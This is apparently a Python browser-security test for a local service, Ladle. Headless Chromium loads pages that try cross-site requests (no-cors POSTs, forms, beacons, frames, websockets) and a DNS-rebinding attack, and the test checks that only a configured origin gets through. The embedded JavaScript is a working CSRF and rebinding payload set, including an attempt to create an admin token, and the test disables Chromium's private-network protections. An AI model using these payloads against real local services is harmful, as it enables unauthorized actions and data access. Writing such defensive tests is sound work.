"""Web pages in a real browser (headless Chromium from Debian) against Ladle on loopback, as the very user it runs as.

A page whose own name is made to lead to Ladle (DNS rebinding) and a page of another site (simple POSTs, images, scripts,
frames, beacons, forms) can neither send nor read anything; a page of a configured origin can, also with EventSource and a
ticket. Each page writes what came of its attempts to the server it came from.
"""

import http.server
import json
import pathlib
import shutil
import socket
import subprocess
import threading
import time

from harness import ROOT, Serve, Tally, options, scratch, until

options()
tally = Tally()
if not shutil.which("chromium"):
    subprocess.run([ROOT / "deploy/packages", "chromium"], check=True)

told = {}

COMMON = """
const told = {};
const ladle = %(ladle)s;
const port = %(port)d;
async function attempt(name, work) {
  try { told[name] = await Promise.race([work(), new Promise(done => setTimeout(() => done("no answer"), 4000))]); }
  catch (problem) { told[name] = "error: " + problem.name; }
}
const read = async (answer) => answer.type === "opaque" ? "opaque" : answer.status + " " + (await answer.text()).slice(0, 300);
const element = (tag, set) => new Promise(done => {
  const made = document.createElement(tag);
  made.onload = () => done("loaded"); made.onerror = () => done("error");
  set(made); document.body.append(made);
});
const follow = (url, options) => new Promise(done => {
  const source = new EventSource(url, options);
  source.addEventListener("hello", event => { source.close(); done("hello " + event.data.slice(0, 100)); });
  source.onerror = () => { source.close(); done("error"); };
});
async function report() { await fetch("/told?" + new URLSearchParams({ page: "%(page)s" }), { method: "POST", body: JSON.stringify(told) }); }
"""

# The attacker's own site, on another port of another name: everything the fetch standard lets it send unasked.
CROSS = """
const post = (body, type, more) => async () => read(await fetch(ladle + "/v1/messages", { method: "POST", mode: "no-cors", body, headers: { "Content-Type": type }, ...more }));
await attempt("text no-cors", post("evil text no-cors", "text/plain"));
await attempt("form no-cors", post("text=evil+form+no-cors", "application/x-www-form-urlencoded"));
await attempt("multipart no-cors", async () => { const form = new FormData(); form.set("text", "evil multipart"); return read(await fetch(ladle + "/v1/messages", { method: "POST", mode: "no-cors", body: form })); });
await attempt("no type no-cors", async () => read(await fetch(ladle + "/v1/messages", { method: "POST", mode: "no-cors", body: new Blob([new TextEncoder().encode("evil no type")]) })));
await attempt("with credentials", post("evil credentials", "text/plain", { credentials: "include" }));
await attempt("no referrer", post("evil no referrer", "text/plain", { referrerPolicy: "no-referrer" }));
await attempt("keepalive", post("evil keepalive", "text/plain", { keepalive: true }));
await attempt("json cors", async () => read(await fetch(ladle + "/v1/messages", { method: "POST", body: '{"text":"evil json"}', headers: { "Content-Type": "application/json" } })));
await attempt("delete cors", async () => read(await fetch(ladle + "/v1/tokens/x", { method: "DELETE" })));
await attempt("read cors", async () => read(await fetch(ladle + "/v1/status")));
await attempt("read no-cors", async () => read(await fetch(ladle + "/v1/status", { mode: "no-cors" })));
await attempt("health cors", async () => read(await fetch(ladle + "/healthz")));
await attempt("event source", () => follow(ladle + "/v1/events"));
await attempt("event source with credentials", () => follow(ladle + "/v1/events", { withCredentials: true }));
await attempt("beacon", async () => String(navigator.sendBeacon(ladle + "/v1/messages", "evil beacon")));
await attempt("image", () => element("img", made => made.src = ladle + "/v1/identity/avatar"));
await attempt("script", () => element("script", made => made.src = ladle + "/v1/status"));
await attempt("style", () => element("link", made => { made.rel = "stylesheet"; made.href = ladle + "/v1/activity"; }));
await attempt("websocket", () => new Promise(done => { const one = new WebSocket(ladle.replace("http", "ws") + "/v1/events"); one.onopen = () => done("open"); one.onerror = () => done("error"); }));
await attempt("frame", async () => { await element("iframe", made => made.src = ladle + "/v1/status"); try { return document.querySelector("iframe").contentDocument.body.innerText; } catch (problem) { return "error: " + problem.name; } });
for (const [name, type] of [["form", "application/x-www-form-urlencoded"], ["text form", "text/plain"], ["multipart form", "multipart/form-data"]])
  await attempt(name, async () => {
    const frame = document.createElement("iframe"); frame.name = "target-" + type; document.body.append(frame);
    const form = document.createElement("form"); form.method = "POST"; form.enctype = type; form.action = ladle + "/v1/messages"; form.target = frame.name;
    const field = document.createElement("input"); field.name = "text"; field.value = "evil " + name; form.append(field); document.body.append(form);
    form.submit(); await new Promise(done => setTimeout(done, 500)); return "submitted";
  });
await attempt("sandboxed", async () => {
  const frame = document.createElement("iframe"); frame.sandbox = "allow-scripts";
  frame.srcdoc = `<script>fetch("${ladle}/v1/messages",{method:"POST",mode:"no-cors",body:"evil sandboxed"}).then(a=>a.type,e=>e.name).then(t=>parent.postMessage(t,"*"))<\\/script>`;
  const heard = new Promise(done => addEventListener("message", event => done(event.data), { once: true }));
  document.body.append(frame); return heard;
});
"""

# The same name as the page's, and by now Ladle's address: to the browser it is the page's own server.
REBOUND = """
await attempt("read", async () => read(await fetch("/v1/status")));
await attempt("health", async () => read(await fetch("/healthz")));
await attempt("send", async () => read(await fetch("/v1/messages", { method: "POST", body: '{"text":"evil rebound"}', headers: { "Content-Type": "application/json" } })));
await attempt("send text", async () => read(await fetch("/v1/messages", { method: "POST", body: "evil rebound text" })));
await attempt("token", async () => read(await fetch("/v1/tokens", { method: "POST", body: '{"name":"evil","scopes":["admin"]}', headers: { "Content-Type": "application/json" } })));
await attempt("event source", () => follow("/v1/events"));
await attempt("poll", async () => read(await fetch("/v1/events?poll=0")));
"""

ALLOWED = """
const json = { "Content-Type": "application/json", "Authorization": "Bearer %(token)s" };
await attempt("read", async () => read(await fetch(ladle + "/healthz")));
await attempt("status", async () => read(await fetch(ladle + "/v1/status", { headers: json })));
await attempt("send", async () => read(await fetch(ladle + "/v1/messages", { method: "POST", headers: json, body: '{"text":"echo from the page"}' })));
await attempt("event source by ticket", async () => {
  const ticket = (await (await fetch(ladle + "/v1/tickets", { method: "POST", headers: json, body: '{"path":"/v1/events"}' })).json()).ticket;
  return follow(ladle + "/v1/events?ticket=" + ticket);
});
await attempt("event source by no ticket", () => follow(ladle + "/v1/events?ticket=ldt_none"));
"""


class Pages(http.server.BaseHTTPRequestHandler):
    """The pages, by path; with `Connection: close`, so that a rebound name is looked up again."""

    protocol_version = "HTTP/1.1"
    pages = {}

    def do_GET(self):
        body = self.pages.get(self.path.split("?")[0], "").encode()
        self.send_response(200 if body else 404)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Connection", "close")
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self):
        body = self.rfile.read(int(self.headers["Content-Length"]))
        told[self.path.split("page=")[1]] = json.loads(body)
        self.send_response(204)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Connection", "close")
        self.end_headers()

    def log_message(self, *_):
        pass


def page(script, name, report="await report();", **values):
    values = {"page": name, "token": "", **values}
    return f"<!doctype html><meta charset=utf-8><title>{name}</title><body><script type=module>{COMMON % values}{script % values if '%(token)' in script else script}{report}</script>"


server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Pages)
pages_port = server.server_port
threading.Thread(target=server.serve_forever, daemon=True).start()
allowed = f"http://dashboard.test:{pages_port}"
serve = Serve("--access-origins", allowed, "--limits-auth-per-minute", "100000").linked()
token = serve.make_token("page", "read", "send")["token"]
start = serve.json("GET", "/v1/events?poll=0")[1]["cursor"]
here = {"ladle": json.dumps(serve.url), "port": serve.port}
Pages.pages = {
    "/cross": page(CROSS, "cross", **here),
    "/allowed": page(ALLOWED, "allowed", **{**here, "token": token}),
}


def browse(url, name, rules, seconds=120):
    """Opens the page and waits for its report. Chromium's own walls around local networks are off: ours must stand alone."""
    profile = scratch()
    chromium = subprocess.Popen(
        ["chromium", "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
         "--disable-background-networking", "--disable-component-update", "--disable-sync", f"--user-data-dir={profile}",
         f"--host-resolver-rules={rules}", "--disable-features=LocalNetworkAccessChecks,PrivateNetworkAccessSendPreflights,"
         "BlockInsecurePrivateNetworkRequests", url],
        stdout=subprocess.DEVNULL, stderr=open(pathlib.Path(profile) / "log", "w"))
    try:
        until(lambda: name in told, seconds=seconds, every=0.1, what=f"the page {name}")
    except TimeoutError as problem:
        print((pathlib.Path(profile) / "log").read_text()[-1500:])
        tally.check(False, str(problem))
        told[name] = {}
    finally:
        chromium.kill()
        chromium.wait()
    return told[name]


def unharmed(what):
    events = serve.json("GET", f"/v1/events?poll=0&since={start}")[1]["events"]
    texts = json.dumps(serve.json("GET", "/v1/outbox?limit=100")[1]) + json.dumps(events)
    tally.check("evil" not in texts, f"{what}: something was sent: {texts[:500]}")
    tokens = serve.json("GET", "/v1/tokens")[1]["tokens"]
    tally.check(not any(one["name"] == "evil" for one in tokens), f"{what}: a token was made")


# 1. A page of another site. Without a page's marks the very same request is let in: this is the owner's own connection.
tally.check(serve.call("POST", "/v1/messages", b"control", {"Content-Type": "text/plain"})[0] == 202, "the control is refused")
result = browse(f"http://attacker.test:{pages_port}/cross", "cross", "MAP attacker.test 127.0.0.1")
time.sleep(0.5)
unharmed("a page of another site")
for name, outcome in result.items():
    tally.check(
        outcome in ("opaque", "error", "submitted", "true", "no answer", "loaded") or outcome.startswith("error") or outcome == "TypeError",
        f"a page of another site read through {name}: {outcome}")
for name in ("image", "script", "websocket", "event source", "event source with credentials"):
    tally.check(str(result.get(name, "")).startswith("error"), f"{name} of another site: {result.get(name)}")
tally.check(len(result) == 24, f"{len(result)} attempts of the page of another site: {sorted(result)}")
print(f"browser: a page of another site tried {len(result)} ways: nothing sent, nothing read")

# 2. A rebinding page: its name led to the attacker when it was loaded, and leads to Ladle now, on the same port.
class Rebound(threading.Thread):
    """The address the name has: it gives the page to who asks for it; all else reaches Ladle, byte for byte."""

    def __init__(self, body):
        super().__init__(daemon=True)
        self.listener = socket.create_server(("127.0.0.3", serve.port))
        self.page = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\nContent-Length: %d\r\n\r\n" % len(body) + body
        self.heads = []
        self.start()

    def run(self):
        while True:
            threading.Thread(target=self.take, args=(self.listener.accept()[0],), daemon=True).start()

    def take(self, one):
        try:
            head = one.recv(65536)
            if head.startswith(b"GET /page "):
                one.sendall(self.page)
            elif head:
                self.heads.append(head)
                with socket.create_connection(("127.0.0.1", serve.port), 10) as ladle:
                    ladle.sendall(head)
                    while piece := ladle.recv(65536):  # a refusal, which ends the connection
                        one.sendall(piece)
        except OSError:
            pass
        one.close()


report = f"""await fetch("http://reports.test:{pages_port}/told?page=rebound", {{ method: "POST", mode: "no-cors", body: JSON.stringify(told) }});"""
rebound = Rebound(page(REBOUND, "rebound", report=report, **here).encode())
result = browse(
    f"http://rebound.test:{serve.port}/page", "rebound", "MAP rebound.test 127.0.0.3, MAP reports.test 127.0.0.1")
unharmed("a rebinding page")
tally.check(len(result) == 7 and len(rebound.heads) >= 7, f"{len(result)} attempts, {len(rebound.heads)} of them reached Ladle")
for name, outcome in result.items():
    # The page may read these answers, as it would its own server's: they must say nothing and do nothing.
    tally.check(outcome.startswith("421 ") or outcome == "error", f"a rebinding page got through {name}: {outcome}")
    tally.check("link" not in outcome and "cursor" not in outcome, f"a rebinding page read through {name}: {outcome}")
tally.check(all(b"Host: rebound.test" in head for head in rebound.heads), "the browser named the page's host")
print(f"browser: a rebinding page tried {len(result)} ways: {sorted(set(outcome.split(' ')[0] for outcome in result.values()))}")

# 3. A page of the configured origin.
result = browse(f"{allowed}/allowed", "allowed", "MAP dashboard.test 127.0.0.1")
tally.check(result.get("read", "").startswith("200"), f"an allowed page reads /healthz: {result.get('read')}")
tally.check(result.get("status", "").startswith("200"), f"an allowed page with a token: {result.get('status')}")
tally.check(result.get("send", "").startswith("202"), f"an allowed page sends: {result.get('send')}")
tally.check(result.get("event source by ticket", "").startswith("hello"), f"EventSource by ticket: {result.get('event source by ticket')}")
tally.check(result.get("event source by no ticket") == "error", f"EventSource by a wrong ticket: {result.get('event source by no ticket')}")
print(f"browser: a page of the configured origin: read, sent, and EventSource by ticket got {result.get('event source by ticket', '')[:5]}")
tally.end()
